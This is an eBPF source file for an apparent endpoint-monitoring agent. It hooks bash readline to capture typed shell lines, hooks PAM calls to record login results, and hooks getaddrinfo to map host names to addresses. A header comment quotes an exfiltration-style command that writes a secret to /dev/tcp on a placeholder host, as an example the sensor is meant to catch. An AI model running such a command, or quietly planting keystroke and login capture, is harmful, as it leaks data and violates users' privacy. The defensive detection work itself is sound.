// SPDX-License-Identifier: (Apache-2.0 OR GPL-2.0)
/*
 * uprobes on user-space programs and libraries: optional hooks the agent attaches to the
 * binaries it finds on the host (Attach::Uprobe in crates/vigil-sensor/src/hooks.rs) and
 * attaches again when a binary is replaced.
 *
 *  - bash's readline, on return: the line typed at an interactive shell, builtins
 *    included (`echo secret > /dev/tcp/host/port` never execs);
 *  - PAM's pam_authenticate and pam_acct_mgmt: the result with the user and service;
 *  - libc's getaddrinfo: the name asked and the addresses it returned go to ip_names,
 *    as the in-kernel DNS parser's answers do, so that a connect carries the name when
 *    the lookup went over TCP, DoT/DoH or a cache (nscd, systemd-resolved's stub).
 */
#include "common.h"
#include "task.h"
#include "net.h"

#define VIGIL_USER_STR_MAX 256
#define GAI_MAX_ADDRS 8

/* A call's arguments kept from its entry for its return, by thread. */
struct user_call_args {
	__u64 a0;
	__u64 a3;
};

struct {
	__uint(type, BPF_MAP_TYPE_LRU_HASH);
	__uint(max_entries, 4096);
	__type(key, __u64); /* pid_tgid */
	__type(value, struct user_call_args);
} user_call_args SEC(".maps");

static __always_inline void args_keep(__u64 a0, __u64 a3)
{
	__u64 id = bpf_get_current_pid_tgid();
	struct user_call_args v = { .a0 = a0, .a3 = a3 };
	bpf_map_update_elem(&user_call_args, &id, &v, BPF_ANY);
}

static __always_inline bool args_take(struct user_call_args *out)
{
	__u64 id = bpf_get_current_pid_tgid();
	struct user_call_args *v = bpf_map_lookup_elem(&user_call_args, &id);
	if (!v)
		return false;
	*out = *v;
	bpf_map_delete_elem(&user_call_args, &id);
	return true;
}

/* One VIGIL_KIND_USER_CALL record with up to two user strings. */
static __always_inline int user_call_emit(__u16 func, __s32 ret, const char *s1, const char *s2, __u32 hook)
{
	if (is_self())
		return 0;
	stat_hook(hook, VIGIL_STAT_SEEN);
	struct record_buf *r = record_buf_get();
	if (!r)
		return 0;
	struct vigil_user_call *e = (void *)r->data;
	fill_hdr(&e->hdr, VIGIL_KIND_USER_CALL);
	e->func = func;
	e->flags = 0;
	e->ret = ret;
	e->pad = 0;
	__u32 off = sizeof(*e);
	long n = s1 ? bpf_probe_read_user_str(&r->data[off], VIGIL_USER_STR_MAX, s1) : 0;
	e->str_len = n > 1 ? n - 1 : 0;
	if (n == VIGIL_USER_STR_MAX)
		e->flags |= VIGIL_USER_STR_TRUNC;
	off += e->str_len;
	n = s2 ? bpf_probe_read_user_str(&r->data[off & (VIGIL_RECORD_MAX / 2 - 1)], VIGIL_USER_STR_MAX, s2) : 0;
	e->str2_len = n > 1 ? n - 1 : 0;
	off += e->str2_len;
	emit_record(&rb_events, r, off, hook);
	return 0;
}

SEC("uretprobe")
int BPF_URETPROBE(uprobe_readline, const char *line)
{
	char first = 0;
	/* NULL at end of input; an empty line says nothing */
	if (!line || bpf_probe_read_user(&first, 1, line) || !first)
		return 0;
	return user_call_emit(VIGIL_USER_READLINE, 0, line, NULL, VIGIL_HOOK_READLINE);
}

/* pam_authenticate(pamh, flags) and pam_acct_mgmt(pamh, flags): keep the handle. */
SEC("uprobe")
int BPF_UPROBE(uprobe_pam_enter, void *pamh)
{
	args_keep((__u64)pamh, 0);
	return 0;
}

/*
 * Linux-PAM's struct pam_handle (libpam/pam_private.h, unchanged since 0.99): the
 * service name and the user are its 6th and 7th pointers. The test checks both against
 * a real PAM conversation.
 */
#define PAM_HANDLE_SERVICE_OFF 40
#define PAM_HANDLE_USER_OFF 48

/* The return of either; the attach cookie says which (enum vigil_user_fn). */
SEC("uretprobe")
int BPF_URETPROBE(uprobe_pam_return, int ret)
{
	struct user_call_args a;
	if (!args_take(&a) || !a.a0)
		return 0;
	const char *service = NULL, *user = NULL;
	bpf_probe_read_user(&service, sizeof(service), (void *)(a.a0 + PAM_HANDLE_SERVICE_OFF));
	bpf_probe_read_user(&user, sizeof(user), (void *)(a.a0 + PAM_HANDLE_USER_OFF));
	return user_call_emit(bpf_get_attach_cookie(ctx), ret, user, service, VIGIL_HOOK_PAM);
}

/* getaddrinfo(node, service, hints, res): keep the name and where the result goes. */
SEC("uprobe")
int BPF_UPROBE(uprobe_getaddrinfo, const char *node, const char *service, const void *hints, void **res)
{
	if (node && res)
		args_keep((__u64)node, (__u64)res);
	return 0;
}

/* glibc's struct addrinfo (x86_64): the fields read here. */
struct user_addrinfo {
	int ai_flags;
	int ai_family;
	int ai_socktype;
	int ai_protocol;
	__u32 ai_addrlen;
	__u32 pad;
	__u64 ai_addr;
	__u64 ai_canonname;
	__u64 ai_next;
};

/* An address literal ("10.0.0.1", "::1") names nothing: only host names are kept. */
static __always_inline bool is_literal(const char *s, __u32 len)
{
	bool letters = false;
	for (__u32 i = 0; i < 64; i++) {
		if (i >= len)
			break;
		char c = s[i & 255];
		if (c == ':')
			return true;
		if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c == '-' || c == '_')
			letters = true;
	}
	return !letters;
}

SEC("uretprobe")
int BPF_URETPROBE(uretprobe_getaddrinfo, int ret)
{
	struct user_call_args a;
	if (!args_take(&a) || ret != 0 || is_self())
		return 0;
	stat_hook(VIGIL_HOOK_GETADDRINFO, VIGIL_STAT_SEEN);
	struct record_buf *r = record_buf_get();
	if (!r)
		return 0;
	struct ip_names *v = (void *)r->data;
	long n = bpf_probe_read_user_str(v->names, IP_NAMES_LEN, (const char *)a.a0);
	if (n <= 1 || is_literal(v->names, n - 1)) {
		stat_hook(VIGIL_HOOK_GETADDRINFO, VIGIL_STAT_FILTERED);
		return 0;
	}
	__u32 tgid = bpf_get_current_pid_tgid() >> 32;
	v->ktime = bpf_ktime_get_boot_ns();
	v->expires = v->ktime + NAMES_NO_TTL_NS;
	v->pid = tgid;
	v->cgroup_id = bpf_get_current_cgroup_id();
	v->len = n;
	v->pad = 0;

	__u64 ai = 0;
	bpf_probe_read_user(&ai, sizeof(ai), (void *)a.a3);
	for (int i = 0; i < GAI_MAX_ADDRS && ai; i++) {
		struct user_addrinfo info = {};
		if (bpf_probe_read_user(&info, sizeof(info), (void *)ai))
			break;
		ai = info.ai_next;
		struct ip_key k = {};
		if (info.ai_family == AF_INET_VAL && info.ai_addr)
			bpf_probe_read_user(k.addr, 4, (void *)(info.ai_addr + 4));  /* sin_addr */
		else if (info.ai_family == AF_INET6_VAL && info.ai_addr)
			bpf_probe_read_user(k.addr, 16, (void *)(info.ai_addr + 8)); /* sin6_addr */
		else
			continue;
		/* what the DNS parser saw for this process has the CNAMEs too: keep it */
		struct ip_names *old = bpf_map_lookup_elem(&ip_names, &k);
		if (old && old->pid == tgid)
			continue;
		bpf_map_update_elem(&ip_names, &k, v, BPF_ANY);
	}
	return 0;
}
